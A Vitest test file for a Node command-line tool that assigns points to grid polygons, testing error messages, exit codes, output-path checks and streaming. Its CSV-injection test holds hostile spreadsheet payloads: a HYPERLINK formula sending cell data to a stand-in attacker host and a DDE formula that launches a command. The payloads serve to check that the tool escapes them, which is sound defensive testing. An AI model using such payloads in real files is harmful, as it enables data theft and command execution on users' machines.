/**
 * `npm run assign` on bad input (issue 13): every failure is a Chinese message with a
 * documented exit code, never a stack trace; outputs are checked before any work and safe to
 * open in Excel; large inputs stream. The real command in a child process, on small files.
 */
import { spawn, spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, truncateSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import path from 'node:path'
import { fileURLToPath } from 'node:url'
import Papa from 'papaparse'
import { afterAll, describe, expect, it, vi } from 'vitest'

// Each case starts Node with tsx (about a second, more on a busy machine).
vi.setConfig({ testTimeout: 60_000 })

const repoRoot = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..')
const work = mkdtempSync(path.join(tmpdir(), 'assign-failures-'))
afterAll(() => rmSync(work, { recursive: true, force: true }))

function assign(...args: string[]) {
  const run = spawnSync(process.execPath, ['--import', 'tsx', 'scripts/assign.ts', ...args], { cwd: repoRoot, encoding: 'utf8', maxBuffer: 64 * 1024 * 1024 })
  return { status: run.status, stdout: run.stdout, stderr: run.stderr }
}

function file(name: string, content: string): string {
  const target = path.join(work, name)
  writeFileSync(target, content)
  return target
}

const square = (x: number, y: number) => [[[x, y], [x + 0.01, y], [x + 0.01, y + 0.01], [x, y + 0.01], [x, y]]]
const POLYGONS = file(
  'grids.geojson',
  JSON.stringify({
    type: 'FeatureCollection',
    features: [
      { type: 'Feature', properties: { code: 'A' }, geometry: { type: 'Polygon', coordinates: square(119.9, 32.4) } },
      { type: 'Feature', properties: { code: 'B' }, geometry: { type: 'Polygon', coordinates: square(119.91, 32.4) } },
    ],
  }),
)
const POINTS = file('points.csv', '编号,经度,纬度\n1,119.905,32.405\n2,119.915,32.405\n')

/** A stack trace looks like "    at fn (file:line:col)"; none may reach the user. */
function expectNoStackTrace(stderr: string) {
  expect(stderr).not.toMatch(/^\s+at .+:\d+:\d+\)?$/m)
  expect(stderr).not.toContain('Node.js v')
}

describe('GeoJSON points with broken coordinates', () => {
  it('each such feature is refused by feature number and reason; the others are assigned (exit 0)', () => {
    const points = file(
      'broken-points.geojson',
      JSON.stringify({
        type: 'FeatureCollection',
        features: [
          { type: 'Feature', properties: { n: 1 }, geometry: { type: 'Point', coordinates: [119.905, 32.405] } },
          { type: 'Feature', properties: { n: 2 }, geometry: { type: 'Point' } },
          { type: 'Feature', properties: { n: 3 }, geometry: { type: 'Point', coordinates: null } },
          { type: 'Feature', properties: { n: 4 }, geometry: { type: 'Point', coordinates: [119.905] } },
          { type: 'Feature', properties: { n: 5 }, geometry: { type: 'Point', coordinates: ['119.9', '32.4'] } },
          { type: 'Feature', properties: { n: 6 }, geometry: { type: 'Point', coordinates: [119.915, 32.405] } },
        ],
      }),
    )
    const out = path.join(work, 'broken-points-out.geojson')
    const run = assign('--polygons', POLYGONS, '--points', points, '--out', out)
    expect(run.status).toBe(0)
    expectNoStackTrace(run.stderr)
    expect(run.stderr).toContain('无效行：4')
    // the reader reads each as no geometry and says why (check-geometry.ts); that reason names the row
    expect(run.stderr).toContain('第 2 行（geometry）：几何无效（Point 的 coordinates 应为 [经度, 纬度]')
    expect(run.stderr).toMatch(/第 3 行（geometry）：几何无效（Point 的 coordinates 应为 \[经度, 纬度\]，收到 null/)
    expect(run.stderr).toContain('第 4 行（geometry）：几何无效（Point 的 coordinates 应为 [经度, 纬度]，收到 [119.905]')
    expect(run.stderr).toContain('第 5 行（geometry）：几何无效（Point 的 coordinates 应为 [经度, 纬度]，收到 ["119.9"')
    const result = JSON.parse(readFileSync(out, 'utf8')) as { features: { properties: Record<string, string>; geometry: unknown }[] }
    expect(result.features.map((feature) => feature.properties.polygon_id)).toEqual(['A', '', '', '', '', 'B'])
    expect(result.features[1].geometry).toBeNull()
  })
})

describe('polygons with flat or under-nested coordinates', () => {
  it('such a polygon is skipped with the reason, reported before any output; the others are used (exit 0)', () => {
    const polygons = file(
      'flat.geojson',
      JSON.stringify({
        type: 'FeatureCollection',
        features: [
          { type: 'Feature', properties: { code: 'A' }, geometry: { type: 'Polygon', coordinates: square(119.9, 32.4)[0] } },
          { type: 'Feature', properties: { code: 'B' }, geometry: { type: 'Polygon', coordinates: square(119.91, 32.4) } },
        ],
      }),
    )
    const out = path.join(work, 'flat-out.csv')
    const run = assign('--polygons', polygons, '--points', POINTS, '--out', out)
    expect(run.status).toBe(0)
    expectNoStackTrace(run.stderr)
    expect(run.stderr).toContain('跳过的要素 1 个')
    expect(run.stderr).toContain('第 1 个：Polygon 的坐标嵌套不对：第 1 个环的第 1 个点是数字 119.9（少了一层）')
    // The polygon report comes first, before the points are read.
    expect(run.stderr.indexOf('跳过的要素')).toBeLessThan(run.stderr.indexOf('点：'))
    expect(Papa.parse<Record<string, string>>(readFileSync(out, 'utf8').replace(/^\uFEFF/, '').trim(), { header: true }).data.map((row) => row.polygon_id)).toEqual(['', 'B'])
  })

  it('when no polygon is usable: exit 2 with each reason, and no output file', () => {
    const polygons = file(
      'all-flat.geojson',
      JSON.stringify({
        type: 'FeatureCollection',
        features: [
          { type: 'Feature', properties: { code: 'A' }, geometry: { type: 'Polygon', coordinates: [119.9, 32.4, 119.91, 32.4, 119.91, 32.41] } },
          { type: 'Feature', properties: { code: 'B' }, geometry: { type: 'MultiPolygon', coordinates: square(119.91, 32.4) } },
          null,
        ],
      }),
    )
    const out = path.join(work, 'all-flat-out.csv')
    const run = assign('--polygons', polygons, '--points', POINTS, '--out', out)
    expect(run.status).toBe(2)
    expectNoStackTrace(run.stderr)
    expect(run.stderr).toContain('多边形文件中没有面要素')
    expect(run.stderr).toContain('第 1 个：Polygon 的坐标嵌套不对：第 1 个环是数字 119.9（少了一层）')
    expect(run.stderr).toContain('第 2 个：MultiPolygon 的坐标嵌套不对：第 1 个面的第 1 个环的第 1 个点是数字 119.91（少了一层）')
    expect(existsSync(out)).toBe(false)
  })
})

describe('output paths are checked before any work (exit 1)', () => {
  // --points names a file that does not exist: had anything been read first, the exit would be 2.
  const missingPoints = path.join(work, 'never-read.csv')

  it('--out in a directory that does not exist', () => {
    const run = assign('--polygons', POLYGONS, '--points', missingPoints, '--out', path.join(work, 'no-such-directory', 'result.csv'))
    expect(run.status).toBe(1)
    expect(run.stderr).toContain('所在的目录')
    expect(run.stderr).toContain('不存在')
    expectNoStackTrace(run.stderr)
  })

  it('--out naming a directory', () => {
    const directory = path.join(work, 'result.csv')
    mkdirSync(directory)
    for (const target of [directory, `${work}/`]) {
      const run = assign('--polygons', POLYGONS, '--points', missingPoints, '--out', target)
      expect(run.status).toBe(1)
      expect(run.stderr).toMatch(/是(一个)?目录，请给出文件名/)
    }
  })

  it.skipIf(!existsSync('/sys/kernel'))('--out where no file can be created (/sys refuses even root)', () => {
    const run = assign('--polygons', POLYGONS, '--points', missingPoints, '--out', '/sys/urbangrid-result.csv')
    expect(run.status).toBe(1)
    expect(run.stderr).toContain('无法在目录“/sys”中写入文件')
  })

  it('a failed run leaves an earlier result of the same name untouched and no partial file', () => {
    const out = file('earlier.csv', 'earlier result\r\n')
    const run = assign('--polygons', POLYGONS, '--points', file('no-coordinates.csv', '编号,地址\n1,下城区\n'), '--out', out)
    expect(run.status).toBe(2)
    expect(run.stderr).toContain('找不到经纬度列')
    expect(readFileSync(out, 'utf8')).toBe('earlier result\r\n')
    expect(existsSync(`${out}.partial`)).toBe(false)
  })
})

describe('usage and unusable input', () => {
  it.each([
    [['--points', POINTS], 1, '缺少 --polygons'],
    [['--polygons', POLYGONS, '--points', POINTS, '--crs', 'wgs1984'], 1, '--crs 只能是'],
    [['--polygons', POLYGONS, '--points', POINTS, '--out', path.join(work, 'x.txt')], 1, '--out 只支持 .csv 或 .geojson'],
    [['--polygons', POLYGONS, '--points', POINTS, '--bogus'], 1, "Unknown option '--bogus'"],
    [['--polygons', path.join(work, 'nope.geojson'), '--points', POINTS], 2, '文件不存在'],
    [['--polygons', POINTS, '--points', POINTS], 2, '不是有效的 JSON'],
    [['--polygons', POLYGONS, '--points', work], 2, '是一个目录，不是文件'],
  ])('%j → exit %i', (args, status, message) => {
    const run = assign(...(args as string[]))
    expect(run.status).toBe(status)
    expect(run.stderr).toContain(message)
    expectNoStackTrace(run.stderr)
  })
})

describe('outputs safe to open', () => {
  it('formula-looking text is written as text; numbers stay numbers', () => {
    const points = file(
      'formulas.csv',
      Papa.unparse([
        ['编号', '经度', '纬度', '描述'],
        ['1', '119.905', '32.405', '=HYPERLINK("http://evil.example/?q="&A1,"点击")'],
        ['2', '119.905', '32.405', "=cmd|' /C calc'!A0"],
        ['3', '119.905', '32.405', '@SUM(A1:A9)'],
        ['4', '119.905', '32.405', '+86 138 0000 0000'],
        ['5', '119.905', '32.405', '-1'],
      ]),
    )
    const out = path.join(work, 'formulas-out.csv')
    expect(assign('--polygons', POLYGONS, '--points', points, '--out', out).status).toBe(0)
    const text = readFileSync(out, 'utf8')
    expect(text.startsWith('\uFEFF')).toBe(true)
    const rows = Papa.parse<string[]>(text.slice(1).trim(), { header: false, delimiter: ',' }).data.slice(1)
    expect(rows.map((row) => row[3])).toEqual([`'=HYPERLINK("http://evil.example/?q="&A1,"点击")`, `'=cmd|' /C calc'!A0`, `'@SUM(A1:A9)`, `'+86 138 0000 0000`, '-1'])
    // Standard output is escaped alike.
    expect(assign('--polygons', POLYGONS, '--points', points).stdout).toContain(`'@SUM(A1:A9)`)
  })
})

describe('streaming', () => {
  /** A CSV of several 1 MiB slices; every tenth point outside both squares. */
  function manyPoints(name: string, rows: number): string {
    const lines = ['编号,描述,经度,纬度']
    for (let k = 0; k < rows; k++) lines.push(`${k},市民来电反映小区门口垃圾堆放无人清理，请尽快处理第${k}件,${k % 10 === 0 ? '119.95' : k % 2 ? '119.905' : '119.915'},32.405`)
    return file(name, `${lines.join('\r\n')}\r\n`)
  }

  it('GeoJSON out is one valid FeatureCollection written feature by feature, every row in order', () => {
    const points = manyPoints('many.csv', 40_000)
    const out = path.join(work, 'many.geojson')
    const run = assign('--polygons', POLYGONS, '--points', points, '--out', out)
    expect(run.status).toBe(0)
    const result = JSON.parse(readFileSync(out, 'utf8')) as { type: string; features: { properties: Record<string, string> }[] }
    expect(result.type).toBe('FeatureCollection')
    expect(result.features).toHaveLength(40_000)
    expect(result.features.map((feature) => Number(feature.properties['编号']))).toEqual(Array.from({ length: 40_000 }, (_unused, k) => k))
    expect(result.features.filter((feature) => feature.properties.polygon_id === '')).toHaveLength(4_000)
  }, 60_000)

  it('an input cut short while it is read: exit 3, and the message says how far the output got', async () => {
    const points = manyPoints('cut.csv', 40_000)
    // The child blocks writing to a pipe nobody reads; the file is cut while it waits.
    const child = spawn(process.execPath, ['--import', 'tsx', 'scripts/assign.ts', '--polygons', POLYGONS, '--points', points], { cwd: repoRoot })
    let stderr = ''
    let written = 0
    child.stderr.on('data', (chunk: Buffer) => (stderr += chunk.toString('utf8')))
    child.stdout.once('data', () => {
      child.stdout.pause()
      truncateSync(points, 200)
      setTimeout(() => child.stdout.resume(), 100)
    })
    child.stdout.on('data', (chunk: Buffer) => (written += chunk.length))
    const status = await new Promise<number | null>((resolve) => child.on('close', resolve))
    expect(status).toBe(3)
    expectNoStackTrace(stderr)
    expect(stderr).toMatch(/处理到输入第 (\d+) 行后中止：文件“cut\.csv”在读取过程中被修改或截断/)
    expect(stderr).toMatch(/已写出前 \d+ 行（至输入第 \d+ 行），之后的行未写出；已写到标准输出的部分不完整/)
    expect(written).toBeGreaterThan(0)
  }, 60_000)
})
